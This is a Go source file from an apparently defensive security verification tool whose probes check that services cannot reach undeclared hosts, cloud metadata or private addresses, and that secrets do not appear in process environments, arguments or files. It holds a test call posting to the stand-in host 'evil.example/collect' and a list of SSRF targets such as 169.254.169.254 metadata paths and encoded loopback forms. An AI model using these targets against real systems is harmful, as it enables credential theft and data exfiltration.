package verify

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"maps"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"time"

	"github.com/rampart-security/rampart/internal/agent"
	"github.com/rampart-security/rampart/internal/wire"
	"github.com/rampart-security/rampart/spec"
)

func outsideProbes() []Probe {
	return []Probe{
		{ID: "P-060", Title: "a service reaches no host that its flows do not declare", SeedRow: "checklist: egress filtering", Controls: []string{"egress.allow"},
			Proves: []string{"owasp2021:A10", "api2023:API7"}, Vantage: asService, Safety: intrusive, Run: undeclaredHosts,
			Blind: "a host that is not in the file has no way out, whatever is allowed of the declared ones"},
		{ID: "P-061", Title: "no outbound call reaches metadata, loopback or private addresses", SeedRow: "owasp: A10", Controls: []string{"egress.allow"},
			Proves: []string{"owasp2021:A10", "api2023:API7"}, Vantage: asService, Safety: safe, Run: privateHosts,
			Blind: "addresses are no destinations at all, whatever is allowed of the declared ones"},
		{ID: "P-062", Title: "a declared party is reached by its declared methods and paths alone", SeedRow: "tls: service to external API", Controls: []string{"egress.allow"},
			Proves: []string{"owasp2021:A10", "api2023:API7"}, Vantage: asService, Safety: intrusive, Needs: needExternal, Run: undeclaredPaths},
		{ID: "P-131", Title: "no secret is in an environment, an argument, a log or a file", SeedRow: "payment: 3 exposed processor key", Controls: []string{"secret.not_in_env", "secret.manager"},
			Proves: []string{"PAY-4", "owasp2021:A02"}, Vantage: onHost, Safety: safe, Needs: all(needSecret, needProc), Run: leakedSecret,
			Blind:    "there is no way to put a secret into an environment",
			SelfTest: "plants a value of its own in an environment and in a file, and finds both"},
		{ID: "P-133", Title: "a service does not get another service's secret", SeedRow: "payment: 3 exposed processor key", Controls: []string{"secret.acl"},
			Proves: []string{"PAY-4", "owasp2021:A01"}, Vantage: asService, Safety: safe, Needs: needForeignSecret, Run: foreignSecret},
		{ID: "P-134", Title: "a service does not hold the credential that its sidecar injects", SeedRow: "payment: 3 exposed processor key", Controls: []string{"secret.acl"},
			Proves: []string{"PAY-4"}, Vantage: asService, Safety: safe, Needs: needSecret, Run: injectedSecret},
	}
}

// out is a call through a service's outbound side.
func (e *Env) out(ctx context.Context, service, method, path string) (response, error) {
	return e.plainly(ctx, call{addr: e.running.Out[service], method: method, path: agent.PathOut + path})
}

func needExternal(sys *spec.System) (bool, string) {
	leaves := slices.ContainsFunc(sys.Flows, func(f spec.Flow) bool { _, ok := sys.External[f.To]; return ok && f.Egress != nil })
	return leaves, "no flow leads out of the system"
}

func undeclaredHosts(ctx context.Context, e *Env) (Result, error) {
	return e.refusedExits(ctx, func(string) [][2]string {
		return [][2]string{{http.MethodGet, "evil.example/"}, {http.MethodPost, "evil.example/collect"}}
	})
}

func undeclaredPaths(ctx context.Context, e *Env) (Result, error) {
	return e.refusedExits(ctx, e.bentExits)
}

// refusedExits makes calls out of every service, given as method and
// "DESTINATION/PATH". All must be refused.
func (e *Env) refusedExits(ctx context.Context, exits func(service string) [][2]string) (Result, error) {
	if err := e.declaredExit(ctx); err != nil {
		return Result{}, err
	}
	tried := 0
	for _, service := range e.services() {
		for _, a := range exits(service) {
			verdict, err := e.egress(ctx, service, a[0], a[1])
			if err != nil || verdict.Verdict != Pass {
				return verdict, err
			}
			tried++
		}
	}
	return passed("%d calls out of %d services refused by egress.allow", tried, len(e.services())), nil
}

// bentExits are calls to a service's declared parties by a method or a path
// that its flows do not declare.
func (e *Env) bentExits(service string) [][2]string {
	var out [][2]string
	for _, f := range e.sys.FlowsFrom(service) {
		if _, ok := e.sys.External[f.To]; !ok || f.Egress == nil {
			continue
		}
		out = append(out, [2]string{f.Egress.Methods[0], f.To + "/verify/undeclared"})
		if !slices.Contains(f.Egress.Methods, http.MethodDelete) && len(f.Egress.Paths) > 0 {
			out = append(out, [2]string{http.MethodDelete, f.To + strings.TrimSuffix(f.Egress.Paths[0], "*")})
		}
	}
	return out
}

// declaredExit is the positive control: the honest booking goes out to the
// declared party, once in a run. A system that calls nobody has none.
func (e *Env) declaredExit(ctx context.Context) error {
	e.exit.Lock()
	defer e.exit.Unlock()
	leaves := slices.ContainsFunc(e.sys.Flows, func(f spec.Flow) bool { _, ok := e.sys.External[f.To]; return ok })
	if ok, _ := needScenario(e.sys); !ok || !leaves {
		e.note("no declared call out can be made")
		return nil
	}
	if e.left {
		e.note("the declared call out passed")
		return nil
	}
	st, err := e.beginUsual(ctx)
	if err != nil {
		return err
	}
	if _, err := e.book(ctx, st); err != nil {
		return err
	}
	_, seen, err := e.trail.wait(ctx, patience, func(v event) bool { return strings.HasPrefix(v.Action, "egress ") && v.Outcome == "allowed" })
	if err == nil && !seen {
		err = errors.New("the honest request made no call out on record")
	}
	if err != nil {
		return err
	}
	e.left = true
	e.note("the declared call out passed")
	return nil
}

func (e *Env) egress(ctx context.Context, service, method, path string) (Result, error) {
	name := fmt.Sprintf("%s: %s %s", service, method, path)
	res, err := e.out(ctx, service, method, path)
	if err != nil {
		return Result{}, fmt.Errorf("%s: %w", name, err)
	}
	who, ok, err := e.refuser(ctx, res.trace, []string{"egress.allow", "egress.private_ip"})
	if err != nil {
		return Result{}, err
	}
	e.note("%s: %d by %s", name, res.status, orNobody(who.Control))
	if !ok || who.Outcome != "refused" {
		return failed("%s: went out and was answered %d", name, res.status), nil
	}
	return verdictOn(attack{name, request{}, []string{"egress.allow"}}, res.status, who, ok), nil
}

func privateHosts(ctx context.Context, e *Env) (Result, error) {
	places := []string{"169.254.169.254/latest/meta-data/", "127.0.0.1/", "localhost/", "10.0.0.1/", "%5B::1%5D/", "metadata.google.internal/computeMetadata/v1/", "0x7f000001/", "control/v1/secrets/x"}
	return e.refusedExits(ctx, func(string) [][2]string {
		out := make([][2]string, len(places))
		for i, p := range places {
			out[i] = [2]string{http.MethodGet, p}
		}
		return out
	})
}

// grantedSecret finds a credential and the service whose flow needs it.
func grantedSecret(sys *spec.System) (item, service string, ok bool) {
	for _, f := range sys.Flows {
		if _, inside := sys.Services[f.From]; f.Inject != nil && inside {
			return f.Inject.Secret, f.From, true
		}
	}
	return "", "", false
}

func needSecret(sys *spec.System) (bool, string) {
	_, _, ok := grantedSecret(sys)
	return ok, "no flow injects a secret"
}

// needProc asks for a host that shows what its processes were started with.
func needProc(*spec.System) (bool, string) {
	_, err := os.Stat("/proc/self/environ")
	return err == nil, "this host does not show the environment of processes (no /proc)"
}

func needForeignSecret(sys *spec.System) (bool, string) {
	if ok, why := needSecret(sys); !ok {
		return false, why
	}
	return strangerTo(sys) != "", "every service is granted the secret"
}

// strangerTo names a service that no flow grants the secret.
func strangerTo(sys *spec.System) string {
	item, _, _ := grantedSecret(sys)
	for _, name := range (&target{sys: sys}).services() {
		granted := slices.ContainsFunc(sys.FlowsFrom(name), func(f spec.Flow) bool { return f.Inject != nil && f.Inject.Secret == item })
		if !granted {
			return name
		}
	}
	return ""
}

// secretAs asks the control plane for a secret, as a service's sidecar would.
func (e *Env) secretAs(ctx context.Context, service, item string) ([]byte, response, error) {
	w, err := e.join(ctx, "service/"+service)
	if err != nil {
		return nil, response{}, err
	}
	res, err := e.inside(ctx, call{as: w, addr: e.running.Control, want: e.sys.ControlID(), method: http.MethodGet, path: wire.PathSecret + item})
	if err != nil || res.status != http.StatusOK {
		return nil, res, err
	}
	var v agent.SecretValue
	err = json.Unmarshal(res.body, &v)
	return v.Value, res, err
}

func foreignSecret(ctx context.Context, e *Env) (Result, error) {
	item, owner, _ := grantedSecret(e.sys)
	value, res, err := e.secretAs(ctx, owner, item)
	if err != nil {
		return Result{}, err
	}
	if len(value) == 0 {
		return unsure("the sidecar of %s is refused its own secret: %d", owner, res.status), nil
	}
	e.note("%s, whose flow injects it: got it", owner)
	stranger := strangerTo(e.sys)
	value, res, err = e.secretAs(ctx, stranger, item)
	if err != nil {
		return Result{}, err
	}
	if len(value) > 0 {
		return failed("%s got the secret of %s", stranger, owner), nil
	}
	e.note("%s: %d", stranger, res.status)
	return e.refusedPeer(ctx, stranger+" asks for the secret of "+owner, res.peer, "secret.acl")
}

// leakedSecret takes the real value, as the one sidecar may that injects it,
// and searches for it wherever it must not be.
func leakedSecret(ctx context.Context, e *Env) (Result, error) {
	item, owner, _ := grantedSecret(e.sys)
	value, res, err := e.secretAs(ctx, owner, item)
	if err != nil {
		return Result{}, err
	}
	if len(value) < 8 {
		return unsure("the secret cannot be had to search for it: %d", res.status), nil
	}
	if err := e.declaredExit(ctx); err != nil { // so that it has been used
		return Result{}, err
	}
	canary := "canary-" + randomID(16)
	pid, err := e.plant(canary)
	if err != nil {
		return Result{}, err
	}
	places, err := e.hidingPlaces(pid)
	if err != nil {
		return Result{}, err
	}
	planted := 0
	for _, name := range slices.Sorted(maps.Keys(places)) {
		if bytes.Contains(places[name], value) {
			return failed("the secret stands in %s", name), nil
		}
		if bytes.Contains(places[name], []byte(canary)) {
			planted++
		}
	}
	e.note("searched %d places; the value that we planted was found in %d", len(places), planted)
	if planted != 2 {
		return unsure("the search found a planted value in %d of 2 places", planted), nil
	}
	return passed("the secret is in none of %d environments, arguments, logs and files", len(places)), nil
}

// plant puts a worthless value where a secret must not be: into the
// environment of a process and into a file of the state folder. A search that
// does not find it proves nothing.
func (e *Env) plant(canary string) (pid int, err error) {
	name := filepath.Join(e.dir, "run", canary[:16])
	if err := os.WriteFile(name, []byte(canary), 0o600); err != nil {
		return 0, err
	}
	e.atClose(func() { os.Remove(name) })
	cmd := exec.Command("sleep", "60")
	cmd.Env = []string{"RAMPART_VERIFY=" + canary}
	if err := cmd.Start(); err != nil {
		return 0, err
	}
	e.atClose(func() { cmd.Process.Kill(); cmd.Wait() })
	return cmd.Process.Pid, hasEnviron(cmd.Process.Pid)
}

// hasEnviron waits until a process that was started has its environment: for
// a moment after exec the kernel shows none.
func hasEnviron(pid int) error {
	deadline := time.Now().Add(patience)
	for {
		b, err := os.ReadFile(fmt.Sprintf("/proc/%d/environ", pid))
		if err != nil || len(b) > 0 {
			return err
		}
		if time.Now().After(deadline) {
			return errors.New("a process shows no environment")
		}
		time.Sleep(5 * time.Millisecond)
	}
}

// maxPlace bounds what is searched of one file.
const maxPlace = 64 << 20

// hidingPlaces reads environment and arguments of every process of the system
// and of the one given, and every file of the state folder.
func (e *Env) hidingPlaces(planted int) (map[string][]byte, error) {
	out := map[string][]byte{}
	pids := map[string]int{"verify's own child": planted}
	maps.Copy(pids, e.running.PIDs)
	for name, root := range pids {
		for _, pid := range append(descendants(root), root) {
			for _, file := range []string{"environ", "cmdline"} {
				if b, err := os.ReadFile(filepath.Join("/proc", strconv.Itoa(pid), file)); err == nil {
					out[fmt.Sprintf("%s of %s (%d)", file, name, pid)] = b
				}
			}
		}
	}
	e.disk.Lock()
	defer e.disk.Unlock()
	err := filepath.WalkDir(e.dir, func(name string, d fs.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() {
			return nil // a file that went away holds nothing
		}
		f, err := os.Open(name)
		if err != nil {
			return nil
		}
		defer f.Close()
		b, err := io.ReadAll(io.LimitReader(f, maxPlace))
		rel, _ := filepath.Rel(e.dir, name)
		out[rel] = b
		return err
	})
	return out, err
}

// descendants lists the processes that a process started, and theirs. Only
// Linux tells.
func descendants(pid int) []int {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/task/%d/children", pid, pid))
	if err != nil {
		return nil
	}
	var out []int
	for _, f := range strings.Fields(string(b)) {
		child, err := strconv.Atoi(f)
		if err == nil {
			out = append(append(out, child), descendants(child)...)
		}
	}
	return out
}
